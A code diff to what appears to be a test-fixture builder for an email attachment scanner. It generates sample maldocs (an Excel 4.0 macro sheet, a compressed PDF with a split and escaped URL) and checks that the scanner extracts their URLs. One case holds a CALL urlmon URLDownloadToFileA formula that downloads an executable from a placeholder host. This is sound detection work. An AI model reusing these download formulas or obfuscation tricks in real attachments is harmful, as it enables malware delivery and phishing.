@@ -33,6 +33,7 @@ import struct
 import subprocess
 import sys
 import zipfile
+import zlib
 from email.header import Header
 from email.mime.application import MIMEApplication
 from email.mime.base import MIMEBase
@@ -57,16 +58,6 @@ URL_SYMBOLS = {
 # name -> why mamori misses it today (see the module's report in the
 # output).  Keep this list short and exact.
 KNOWN_MISS = {
-    "rtf_template": "rtf.c reads URLs of HYPERLINK/INCLUDE* fields and linked OLE objects "
-                    "only; the \\*\\template destination (RTF template injection) is "
-                    "not read: no URL",
-    "xlm_formula_string": "xlm.c records no URL (no obj_url): a URL in a string of an Excel "
-                          "4.0 formula (CALL urlmon URLDownloadToFileA) is not found",
-    "onenote_embedded_script": "a script carved out of a OneNote section (a .bat) is neither "
-                               "read by the content layer nor given URLs by an analyser: no "
-                               "URL (the same script as a MIME attachment is read as text)",
-    "pdf_page_text": "only a PDF's actions give URLs: a URL written in a page's text (an "
-                     "uncompressed content stream, Tj) is not found",
 }
 
 
@@ -271,15 +262,27 @@ def pdf_openaction_uri(url):
     ])
 
 
-def pdf_page_text(text):
-    """A page whose content stream shows text (no link, no action)."""
-    content = b"BT /F1 12 Tf 50 700 Td (" + text.encode() + b") Tj ET"
+def pdf_page_text(text, flate=False):
+    """A page whose content stream shows text (no link, no action);
+    flate: the stream FlateDecode-compressed, the text in a TJ array cut
+    in three (with kerning), one piece written with escapes."""
+    if flate:
+        third = len(text) // 3
+        a, b, c = text[:third], text[third:2 * third], text[2 * third:]
+        esc = "".join("\\%03o" % ord(ch) if ch in "/." else ch for ch in b)
+        content = ("BT /F1 12 Tf 50 700 Td [(" + a + ") -12 (" + esc + ") 30 (" + c +
+                   ")] TJ ET").encode()
+        content = zlib.compress(content)
+        head = b"<< /Length %d /Filter /FlateDecode >>" % len(content)
+    else:
+        content = b"BT /F1 12 Tf 50 700 Td (" + text.encode() + b") Tj ET"
+        head = b"<< /Length %d >>" % len(content)
     return pdf([
         b"<< /Type /Catalog /Pages 2 0 R >>",
         b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
         b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
         b"/Resources << /Font << /F1 5 0 R >> >> >>",
-        b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
+        head + b"\nstream\n" + content + b"\nendstream",
         b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
     ])
 
@@ -308,6 +311,18 @@ def xlsm_with_formula(formula):
                 data = data.replace(old, b"<f>" + formula.encode() + b"</f>")
             z.writestr(info.filename, data)
     return buf.getvalue()
+
+
+def xls_with_alert(text):
+    """oletools' excel4_sample_macro.xls (BIFF8, an Excel 4.0 macro sheet
+    run by Auto_Open) with the 30 characters of its ALERT string constant
+    (a PtgStr) overwritten in place."""
+    data = bytearray(maldoc("oletools/xlm/excel4_sample_macro.xls"))
+    old = b"This is a sample Excel 4 macro"
+    at = data.find(old)
+    assert at > 0 and data[at - 3:at - 1] == bytes([0x17, len(old)]) and len(text) == len(old)
+    data[at:at + len(old)] = text.encode()
+    return bytes(data)
 
 
 def onenote_with_script():
@@ -437,6 +452,11 @@ def build_cases():
                       'CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,'
                       '"https://xlm-str.example/p.exe","c:\\users\\public\\p.exe",0,0)'))]),
         [("https://xlm-str.example/p.exe", [("book.xlsm", "object")])], {A})
+    c["xlm_formula_string_xls"] = (
+        message("xlmxls", "The macro sheet.\n",
+                [("book.xls", "application/vnd.ms-excel",
+                  xls_with_alert("get https://xlm-xls.example/p "))]),
+        [("https://xlm-xls.example/p", [("book.xls", "object")])], {A})
     c["onenote_embedded_script"] = (
         message("onenote", "Notes attached.\n",
                 [("notes.one", "application/onenote", onenote_with_script())]),
@@ -509,7 +529,12 @@ def build_cases():
         message("pdftext", "Invoice attached.\n",
                 [("text.pdf", "application/pdf",
                   pdf_page_text("Pay at https://pdf-text.example/pay now"))]),
-        [("https://pdf-text.example/pay", [("text.pdf", "text")])], {A})
+        [("https://pdf-text.example/pay", [("text.pdf", "object")])], {A})
+    c["pdf_page_text_flate"] = (
+        message("pdftextz", "Invoice attached.\n",
+                [("textz.pdf", "application/pdf",
+                  pdf_page_text("Pay at https://pdf-flate.example/pay/now.", flate=True))]),
+        [("https://pdf-flate.example/pay/now", [("textz.pdf", "object")])], {A})
     safe = ("https://apc01.safelinks.protection.outlook.com/?url=https%3A%2F%2F"
             "wrapped-in-pdf.example%2Finvoice%3Fid%3D3&data=05%7C02%7C&sdata=x&reserved=0")
     c["pdf_safelinks_wrapped"] = (
